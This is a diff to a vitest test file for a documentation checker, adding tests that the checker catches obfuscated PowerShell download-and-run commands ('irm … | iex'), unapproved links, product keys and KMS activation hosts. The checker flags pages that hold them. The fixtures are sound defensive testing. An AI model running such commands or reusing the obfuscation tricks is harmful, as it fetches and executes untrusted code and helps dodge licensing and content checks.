@@ -1,6 +1,9 @@
 import {expect, test} from 'vitest';
 import {checkPage} from '../../../../src/lib/content/checkPage';
-import {readContentFile} from '../../../../src/lib/content/contentFile';
+import {
+  readContentFile,
+  shownText,
+} from '../../../../src/lib/content/contentFile';
 import {formatFaults} from '../../../../src/lib/content/fault';
 import {frontMatterFaults} from '../../../../src/lib/content/textFile';
 
@@ -59,4 +62,52 @@ test('front matter that would run is refused, and does not run', () => {
     );
   }
   expect(globalThis).not.toHaveProperty('ran');
+});
+
+test('checkPage reads what is shown, not only what is written', () => {
+  const url = 'https://docs.example.org';
+  const lines = [
+    '---',
+    'title: T',
+    `description: "irm ${url} \\u007C iex"`,
+    'sources:',
+    '  - {title: "iex (irm x)", url: "https://x.example"}',
+    '---',
+    `Run \`irm ${url}\` &#124; **i**ex now.`,
+    '',
+    'Add [a host](https&#58;//somebody.org/).',
+    '',
+    `The key is ${Array<string>(5).fill('A1B2C').join('&#45;')}.`,
+    '',
+    '`slmgr /skms` kms.some*body*.org',
+    '',
+    '<TabItem value="a" label="irm x &#124; iex">a</TabItem>',
+  ];
+  const faults = checkPage('docs/x.md', lines.join('\n'), new Set());
+  const at = (line: number) =>
+    faults.filter((fault) => fault.line === line).map(({message}) => message);
+  const runs = expect.stringContaining('a command that runs what it downloads');
+  expect(at(3)).toContainEqual(runs);
+  expect(at(4)).toContainEqual(runs);
+  expect(at(7)).toEqual([runs]);
+  expect(at(9)).toEqual([
+    expect.stringContaining('somebody.org is not on the'),
+  ]);
+  expect(at(11)).toEqual([expect.stringContaining('a product key')]);
+  expect(at(13)).toContainEqual(
+    expect.stringContaining('"kms.somebody.org" is a KMS host'),
+  );
+  expect(at(15)).toEqual([runs]);
+});
+
+test('the shown text has the front matter, each text with its line', () => {
+  const source = '---\ntitle: A\nsources:\n  - {title: B}\n---\n\nC.\n';
+  expect(shownText(readContentFile('docs/x.md', source))).toEqual({
+    path: 'docs/x.md',
+    lines: [
+      {line: 2, text: 'A'},
+      {line: 3, text: 'B'},
+      {line: 7, text: 'C.'},
+    ],
+  });
 });
